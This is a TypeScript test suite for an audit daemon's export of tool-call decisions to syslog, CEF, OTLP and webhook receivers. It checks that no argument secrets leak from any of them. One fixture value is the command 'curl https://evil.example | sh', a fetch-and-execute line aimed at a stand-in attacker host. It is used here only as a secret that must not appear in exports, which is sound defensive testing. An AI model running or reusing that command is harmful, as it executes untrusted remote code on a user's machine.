// R-AUD-4 R-AUD-5: a real daemon exports every audit line to real receivers —
// Debian's rsyslogd over TCP and TLS (RFC 5425), a CEF file, an OTLP/HTTP
// receiver decoding with the OpenTelemetry protobuf definitions, and an HTTPS
// webhook checking the HMAC — and nothing it sends holds an argument, a
// command, a path or a secret.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { parseCef } from '../../src/core/audit/auditExportFormats.js';
import { DaemonClient } from '../../src/heads/daemon/rpcClient.js';
import { makeLoopbackCertificate, startOtlpReceiver, startRsyslog, startWebhookReceiver, verifyWebhookSignature, type OtlpReceiver, type Rsyslog, type WebhookReceiver } from '../helpers/auditReceivers.js';
import { auditLines, makeTempHome, type TempHome } from '../helpers/daemon.js';
import { runInTerminal } from '../helpers/pty.js';
import { freePort } from '../helpers/tlsFixture.js';

const cleanups: (() => Promise<void> | void)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/** What a call carries that must never leave the machine. */
const SECRET_ARGS = { path: '/srv/very-private-dir/notes.txt', token: 'tok_SECRETVALUE_1234', command: 'curl https://evil.example | sh', cookie: 'sid=COOKIEVALUE42', code: 'PAIRCODE9' };
const OTLP_HEADER_SECRET = 'otlp-HEADER-SECRET-5678';
const WEBHOOK_KEY = 'whk-0123456789abcdef0123456789abcdef-KEY';

interface Setup {
  home: TempHome;
  client: DaemonClient;
  rsyslog: Rsyslog;
  otlp: OtlpReceiver;
  webhook: WebhookReceiver;
  cefFile: string;
}

async function setup(): Promise<Setup> {
  const scratch = mkdtempSync(join(tmpdir(), 'as-export-'));
  cleanups.push(() => rmSync(scratch, { recursive: true, force: true }));
  const certificate = await makeLoopbackCertificate();
  const caFile = join(scratch, 'ca.pem');
  writeFileSync(caFile, certificate.cert);
  const rsyslog = await startRsyslog(join(scratch, 'rsyslog'), { tcp: await freePort(), tls: await freePort() }, certificate);
  cleanups.push(() => rsyslog.close());
  const otlp = await startOtlpReceiver();
  cleanups.push(() => otlp.close());
  const webhook = await startWebhookReceiver(WEBHOOK_KEY, certificate);
  cleanups.push(() => webhook.close());
  const keyFile = join(scratch, 'webhook.key');
  writeFileSync(keyFile, `${WEBHOOK_KEY}\n`, { mode: 0o600 });
  const cefFile = join(scratch, 'cef.log');

  const home = makeTempHome();
  cleanups.push(() => home.cleanup());
  mkdirSync(home.home, { recursive: true, mode: 0o700 });
  const config = {
    notifications: false,
    servers: { fs: { command: 'true' } },
    policy: { default: 'allow', tools: { 'fs/write_file': 'prompt', 'fs/move_file': 'deny' } },
    audit: {
      export: [
        { kind: 'syslog', name: 'rsyslog-tcp', transport: 'tcp', host: '127.0.0.1', port: rsyslog.tcpPort },
        { kind: 'syslog', name: 'rsyslog-tls', transport: 'tls', host: '127.0.0.1', port: rsyslog.tlsPort, ca: caFile },
        { kind: 'cef', name: 'cef-file', file: cefFile },
        { kind: 'otlp', name: 'otel', url: otlp.url, headers: { 'x-api-key': OTLP_HEADER_SECRET } },
        { kind: 'webhook', name: 'hook', url: webhook.url, secretFile: keyFile, ca: caFile },
      ],
    },
  };
  writeFileSync(home.paths.config, JSON.stringify(config), { mode: 0o600 });
  await home.startDaemon();
  const client = await DaemonClient.connect({ socketPath: home.paths.socket, autoSpawn: false });
  cleanups.push(() => client.close());
  return { home, client, rsyslog, otlp, webhook, cefFile };
}

/** An allowed call, a policy-denied one and a person-approved one, each with secrets in its arguments. */
async function makeCalls(s: Setup): Promise<void> {
  const allowed = await s.client.call<{ callId: string }>('calls.authorize', { sessionId: 's-export', server: 'fs', tool: 'read_file', args: SECRET_ARGS, annotations: { readOnlyHint: true } });
  await s.client.call('calls.finish', { callId: allowed.callId, outcome: 'ok' });
  await expect(s.client.call('calls.authorize', { sessionId: 's-export', server: 'fs', tool: 'move_file', args: SECRET_ARGS })).rejects.toMatchObject({ type: 'policy_denied' });
  const waiting = s.client.call<{ callId: string }>('calls.authorize', { sessionId: 's-export', server: 'fs', tool: 'write_file', args: SECRET_ARGS });
  let approvalId: string | undefined;
  for (let i = 0; i < 200 && approvalId === undefined; i += 1) {
    approvalId = (JSON.parse((await s.home.runCli(['pending', '--json'])).stdout) as { data: { id: string }[] }).data[0]?.id;
    if (approvalId === undefined) await sleep(25);
  }
  expect((await runInTerminal(['approve', approvalId!], { env: { ASSENT_HOME: s.home.home }, typeCode: true })).exitCode).toBe(0);
  const approved = await waiting;
  await s.client.call('calls.finish', { callId: approved.callId, outcome: 'ok' });
}

describe('R-AUD-4 R-AUD-5 export to real receivers', () => {
  it('rsyslog (TCP and TLS), CEF file, OTLP and webhook each receive every audit record with how it was decided; a wrong HMAC key fails; nothing secret leaves', async () => {
    const s = await setup();
    await makeCalls(s);
    await expect.poll(() => auditLines(s.home).length, { timeout: 5000 }).toBe(3);
    const lines = auditLines(s.home);
    const seqs = lines.map((line) => line['seq'] as number);
    const cefLines = (): string[] => {
      try {
        return readFileSync(s.cefFile, 'utf8').split('\n').filter(Boolean);
      } catch {
        return [];
      }
    };
    await expect
      .poll(() => [s.rsyslog.lines('tcp').length, s.rsyslog.lines('tls').length, cefLines().length, s.otlp.records.length, s.webhook.records().length], { timeout: 15_000, interval: 100 })
      .toEqual([3, 3, 3, 3, 3]);

    // rsyslog parsed one RFC 5424 message per record: MSGID = outcome, assent's SD-ELEMENT with the record's fields.
    for (const listener of ['tcp', 'tls'] as const) {
      const received = s.rsyslog.lines(listener);
      for (const line of lines) {
        const match = received.find((text) => text.includes(`seq="${String(line['seq'])}"`));
        expect(match, `${listener} seq ${String(line['seq'])}`).toBeDefined();
        expect(match!.startsWith(`${String(line['outcome'])} [assent@32473 `)).toBe(true);
        expect(match).toContain(`argsSha256="${String(line['argsSha256'])}"`);
      }
      const approved = received.find((text) => text.includes('tool="write_file"'));
      expect(approved).toContain('decidedHow="person"');
      expect(approved).toContain('channel="cli"');
      expect(approved).toMatch(/decidedBy="[^"]+@[^"]+"/);
      expect(received.find((text) => text.includes('tool="move_file"'))).toContain('decidedHow="policy"');
    }

    // CEF: a 0600 file, one line per record, parsed with the documented mapping.
    expect(statSync(s.cefFile).mode & 0o777).toBe(0o600);
    const cef = cefLines().map((line) => parseCef(line)!);
    expect(cef.map((line) => Number(line.fields['externalId'])).sort((a, b) => a - b)).toEqual(seqs);
    const cefApproved = cef.find((line) => line.fields['destinationServiceName'] === 'fs/write_file')!;
    expect(cefApproved.fields).toMatchObject({ act: 'ok', cat: 'person', channel: 'cli', risk: 'elevated' });
    expect(cef.find((line) => line.fields['destinationServiceName'] === 'fs/move_file')!.fields).toMatchObject({ act: 'denied', reason: 'policy', cat: 'policy' });

    // R-AUD-1: a record decided by policy names the key that decided, in every format.
    const byTool = (tool: string): Record<string, unknown> => lines.find((line) => line['tool'] === tool)!;
    expect(byTool('read_file')['ruleId']).toBe('policy.default');
    expect(byTool('move_file')['ruleId']).toBe('policy.tools.fs/move_file');
    expect(byTool('write_file')['ruleId']).toBeUndefined();
    expect(cef.find((line) => line.fields['destinationServiceName'] === 'fs/move_file')!.fields['ruleId']).toBe('policy.tools.fs/move_file');
    expect(s.rsyslog.lines('tcp').find((text) => text.includes('tool="move_file"'))).toContain('ruleId="policy.tools.fs/move_file"');
    expect(s.otlp.records.find((record) => record.attributes['assent.tool'] === 'read_file')!.attributes['assent.ruleId']).toBe('policy.default');
    expect(s.webhook.records().find((record) => record['tool'] === 'move_file')!['ruleId']).toBe('policy.tools.fs/move_file');

    // OTLP: every record with its attributes, decoded with the SDK's own protobuf definitions.
    const otlpSeqs = s.otlp.records.map((record) => record.attributes['assent.seq']).sort((a, b) => Number(a) - Number(b));
    expect(otlpSeqs).toEqual(seqs);
    for (const record of s.otlp.records) {
      // The SDK's definitions predate the record's own event_name field; the attribute carries it.
      expect(record.attributes['event.name']).toBe('assent.decision');
      expect(record.resource['host.id']).toBe(record.attributes['assent.hostId']);
      const line = lines.find((l) => l['seq'] === record.attributes['assent.seq'])!;
      expect(record.attributes).toMatchObject({ 'assent.outcome': line['outcome'], 'assent.argsSha256': line['argsSha256'], 'assent.server': 'fs', 'assent.tool': line['tool'] });
      expect(typeof record.attributes['assent.decidedHow']).toBe('string');
      expect(typeof record.attributes['assent.risk']).toBe('string');
    }

    // Webhook: every batch verifies under the shared key, and fails under a wrong one.
    expect(s.webhook.batches.length).toBeGreaterThan(0);
    for (const batch of s.webhook.batches) {
      expect(batch.verified).toBe(true);
      expect(verifyWebhookSignature(`${WEBHOOK_KEY}x`, batch.timestamp, batch.body, batch.signature)).toBe(false);
      expect(verifyWebhookSignature(WEBHOOK_KEY, batch.timestamp, `${batch.body} `, batch.signature)).toBe(false);
    }
    expect(s.webhook.records().map((record) => record['seq']).sort()).toEqual(seqs);

    // Status per sink: caught up, a last success, no error; and no secret in status or the daemon's log.
    const status = JSON.parse((await s.home.runCli(['daemon', 'status', '--json'])).stdout) as { data: { export: Record<string, { lag: number; lastSuccessAt: string | null; lastError: unknown; target: string }> } };
    for (const name of ['rsyslog-tcp', 'rsyslog-tls', 'cef-file', 'otel', 'hook']) {
      expect(status.data.export[name]).toMatchObject({ lag: 0, lastError: null });
      expect(status.data.export[name]!.lastSuccessAt).not.toBeNull();
    }
    const daemonLog = readFileSync(s.home.paths.log, 'utf8');
    const statusText = JSON.stringify(status);

    // No secrets leave: scan everything every receiver got.
    const everything = [
      ...s.rsyslog.lines('tcp'),
      ...s.rsyslog.lines('tls'),
      ...cefLines(),
      ...s.otlp.raw.map((body) => body.toString('latin1')),
      ...s.webhook.batches.map((batch) => `${batch.body}${batch.signature}`),
    ].join('\n');
    const secrets = [...Object.values(SECRET_ARGS), 'very-private-dir', '/srv', 'evil.example', OTLP_HEADER_SECRET, WEBHOOK_KEY];
    for (const secret of secrets) expect(everything, secret).not.toContain(secret);
    for (const secret of [OTLP_HEADER_SECRET, WEBHOOK_KEY]) {
      expect(statusText).not.toContain(secret);
      expect(daemonLog).not.toContain(secret);
    }
  }, 60_000);
});
